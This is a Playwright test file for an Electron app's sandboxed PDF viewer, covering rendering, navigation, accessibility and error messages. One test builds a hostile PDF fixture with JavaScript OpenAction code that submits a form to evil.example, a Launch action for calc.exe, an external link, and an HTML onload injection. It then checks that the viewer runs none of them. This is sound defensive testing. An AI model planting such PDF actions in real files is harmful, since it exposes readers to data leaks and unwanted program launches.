import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { AxeBuilder } from '@axe-core/playwright';
import type { FrameLocator, Page } from '@playwright/test';
import { createContentDesk } from '#electron/faces/content/content-desk.ts';
import { systemRandom } from '#electron/faces/host.ts';
import { openContentListener, type ContentListener } from '#electron/faces/loopback/content-listener.ts';
import { pagesWith, stream, writePdf } from '#test/kit/drawn-pdf.ts';
import { at } from '../../build/vite/folders.ts';
import { expect, test as base } from './fixture.ts';

type Shown = {
  readonly open: (page: Page, bytes: Buffer, language?: string) => Promise<FrameLocator>;
  /** What the page around the frame heard of it. */
  readonly heard: (page: Page) => Promise<readonly unknown[]>;
  /** Everything that was asked for but the framing page. */
  readonly asked: string[];
};

const listening = (server: Server): Promise<string> =>
  new Promise((settle) => {
    server.listen(0, '127.0.0.1', () => settle(`http://127.0.0.1:${(server.address() as AddressInfo).port}`));
  });

const test = base.extend<{ shown: Shown }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of what a fixture needs from this pattern
  shown: async ({}, use) => {
    let listener: ContentListener | null = null;
    let address = '';
    const asked: string[] = [];
    const framer = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(
        `<!doctype html><title>f</title><script>heard=[];addEventListener('message',({data})=>heard.push(data))</script>` +
          `<iframe title="pdf" sandbox="allow-scripts allow-same-origin" style="width:900px;height:700px" src="${address}"></iframe>`,
      );
    });
    const origin = await listening(framer);
    listener = await openContentListener(createContentDesk(systemRandom), at('dist/pdf'), () => origin);
    const { show } = listener;
    await use({
      asked,
      open: async (page, bytes, language = 'en') => {
        page.on('request', (request) => asked.push(request.url()));
        const read = (from: number, to: number) => Promise.resolve(new Uint8Array(bytes.subarray(from, to)));
        const shownAt = show({ kind: 'pdf', title: 'a.pdf', size: bytes.length, read });
        address = `${shownAt}?theme=light&language=${language}`;
        await page.goto(origin);
        return page.frameLocator('iframe');
      },
      heard: (page) => page.evaluate(() => Reflect.get(window, 'heard') as readonly unknown[]),
    });
    await listener.close();
    framer.close();
  },
});

const ink = (frame: FrameLocator, page: number): Promise<readonly number[]> =>
  frame
    .locator('.sheet canvas')
    .nth(page)
    .evaluate((canvas) => {
      if (!(canvas instanceof HTMLCanvasElement)) throw new TypeError('no canvas');
      const copy = document.createElement('canvas');
      [copy.width, copy.height] = [canvas.width, canvas.height];
      const context = copy.getContext('2d');
      context?.drawImage(canvas, 0, 0);
      const shade = (x: number, y: number): number =>
        context?.getImageData(x * canvas.width, y * canvas.height, 1, 1).data[0] ?? -1;
      return [shade(0.1, 0.08), shade(0.5, 0.08)];
    });

test('draws pages, reads their words out, and goes by keys, sizes and numbers', async ({ page, shown }) => {
  const frame = await shown.open(page, pagesWith(['Price one', 'Price two', 'Price three']));
  await expect(frame.getByText('Price one')).toBeAttached();
  expect(await ink(frame, 0)).toEqual([0, 255]);
  await expect(frame.getByRole('group', { name: 'Page 2 of 3' })).toBeAttached();
  await frame.locator('.sheets').focus();
  await page.keyboard.press('PageDown');
  await expect(frame.getByLabel('Page', { exact: true })).toHaveValue('2');
  await page.keyboard.press('End');
  await expect(frame.getByText('Price three')).toBeAttached();
  await expect(frame.getByLabel('Page', { exact: true })).toHaveValue('3');
  await expect(frame.getByRole('button', { name: 'Next page' })).toBeDisabled();
  await frame.getByLabel('Page', { exact: true }).fill('1');
  await page.keyboard.press('Enter');
  await expect(frame.getByRole('button', { name: 'Previous page' })).toBeDisabled();
  await frame.getByRole('button', { name: 'Whole page' }).click();
  await expect(frame.getByRole('button', { name: 'Whole page' })).toHaveAttribute('aria-pressed', 'true');
  const before = await frame.locator('.scale').textContent();
  await frame.getByRole('button', { name: 'Larger' }).click();
  await expect(frame.locator('.scale')).not.toHaveText(before ?? '');
  await page.keyboard.press('Escape');
  // A message to the page around the frame comes in its own time.
  await expect.poll(() => shown.heard(page)).toEqual(['pdf.leave']);
  expect(
    (
      await new AxeBuilder({ page })
        .disableRules(['region', 'page-has-heading-one', 'html-has-lang', 'landmark-one-main'])
        .analyze()
    ).violations,
  ).toEqual([]);
});

test('runs nothing of what a PDF holds and asks nobody for it', async ({ page, shown }) => {
  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>';
  const acts = `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>`;
  const frame = await shown.open(
    page,
    writePdf([
      `<< /Type /Catalog /Pages 2 0 R ${acts} >>`,
      '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R /Annots [${link}] >>`,
      stream('BT /F1 24 Tf 60 600 Td (<b onload=alert\\(1\\)>quiet</b>) Tj ET'),
    ]),
  );
  await expect(frame.getByText('quiet')).toBeAttached();
  await expect(frame.locator('a, script:not([src]), .words b')).toHaveCount(0);
  await frame.locator('.sheet').click();
  expect(page.url()).not.toContain('evil');
  expect(shown.asked.filter((url) => !url.startsWith('http://127.0.0.1:'))).toEqual([]);
});

const encrypted = pagesWith(['secret'], '')
  .toString('latin1')
  .replace(
    '/Root 1 0 R',
    `/Root 1 0 R /ID [<00000000000000000000000000000000> <00000000000000000000000000000000>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
  );

test('says why it does not draw: a password, a broken file, a page that never ends in size', async ({
  page,
  shown,
}) => {
  const locked = await shown.open(page, Buffer.from(encrypted, 'latin1'));
  await expect(locked.getByRole('status')).toHaveText(/only with a password/);
  const broken = await shown.open(page, Buffer.from(`%PDF-1.7\n${'x'.repeat(2000)}`), 'ru');
  await expect(broken.getByRole('status')).toHaveText(/PDF повреждён/);
  const huge = pagesWith(['far']).toString('latin1').replace('[0 0 595 842]', '[0 0 99999999 9]');
  const wide = await shown.open(page, Buffer.from(huge, 'latin1'), 'ar');
  await expect(wide.locator('html')).toHaveAttribute('dir', 'rtl');
  await expect(wide.locator('.sheet canvas, .sheet .unseen').first()).toBeAttached();
});
